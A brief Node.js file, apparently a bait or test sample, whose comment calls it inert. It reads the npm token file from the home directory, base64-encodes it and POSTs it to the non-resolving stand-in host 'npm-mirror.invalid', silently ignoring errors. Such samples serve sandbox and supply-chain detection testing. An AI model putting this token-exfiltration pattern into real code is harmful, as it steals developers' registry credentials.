// Inert: reads the token that every sandbox has as bait, and sends it nowhere that exists.
const fs = require('fs');
const path = require('path');
const os = require('os');
const http = require('http');
const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const request = http.request({ host: 'npm-mirror.invalid', method: 'POST' });
request.on('error', () => {});
request.end(Buffer.from(token).toString('base64'));
